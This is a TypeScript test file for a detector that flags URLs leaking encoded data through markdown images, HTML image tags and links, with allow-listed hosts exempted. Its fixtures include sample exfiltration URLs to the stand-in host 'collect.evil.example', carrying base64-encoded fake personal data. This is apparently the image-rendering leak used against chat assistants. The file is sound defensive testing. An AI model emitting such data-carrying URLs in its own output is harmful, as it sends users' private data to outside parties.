import t from 'tap';
import { detectExfilUrls } from '../src/exfil-url.js';

const data = Buffer.from('user=jane; ssn=123-45-6789; key=abc').toString('base64url');

t.test('markdown images carrying data', async (t) => {
  const text = `Here is the chart: ![chart](https://collect.evil.example/p.png?d=${data})`;
  const f = detectExfilUrls(text);
  t.equal(f.length, 1);
  t.equal(f[0]!.rule, 'image-with-data');
  t.equal(text.slice(f[0]!.start, f[0]!.end), `https://collect.evil.example/p.png?d=${data}`);
  t.same(detectExfilUrls('![logo](https://cdn.example.com/logo.png)'), [], 'an image without data is fine');
  t.equal(detectExfilUrls('![x](https://a.example/i.png?q=hello)').length, 1, 'any query on an image counts');
  t.equal(detectExfilUrls(`<img src="https://a.example/${data}.gif">`).length, 1, 'HTML image with data in the path');
});

t.test('allowed hosts never count', async (t) => {
  const text = `![c](https://api.example.com/p.png?d=${data}) [x](https://other.example/?t=${data})`;
  const f = detectExfilUrls(text, { isAllowedHost: (h) => h === 'api.example.com' });
  t.equal(f.length, 1);
  t.match(f[0]!.evidence, /^other\.example/);
});

t.test('links and bare URLs need encoded data', async (t) => {
  t.same(detectExfilUrls('See [the docs](https://docs.example.com/guide/getting-started?lang=en).'), []);
  t.same(detectExfilUrls('visit https://example.com/a/b/c'), []);
  t.equal(detectExfilUrls(`visit https://example.com/track?x=${data}`)[0]?.rule, 'encoded-data');
  t.equal(detectExfilUrls(`[click](https://example.com/t/${'9f8e7d6c5b4a'.repeat(3)})`)[0]?.rule, 'encoded-data');
});

t.test('many images: each reported once, spans disjoint and in order', async (t) => {
  const text = Array.from({ length: 50 }, (_, i) => `![p${i}](https://img${i}.example/a.png?d=${'Q'.repeat(10)}${i})`).join(' ');
  const f = detectExfilUrls(text);
  t.equal(f.length, 50);
  for (let i = 1; i < f.length; i++) t.ok(f[i]!.start >= f[i - 1]!.end, 'disjoint and sorted');
  t.equal(detectExfilUrls(text, { isAllowedHost: (h) => h.startsWith('img1') }).length, 39, 'allowed hosts drop out (img1, img10-img19)');
});
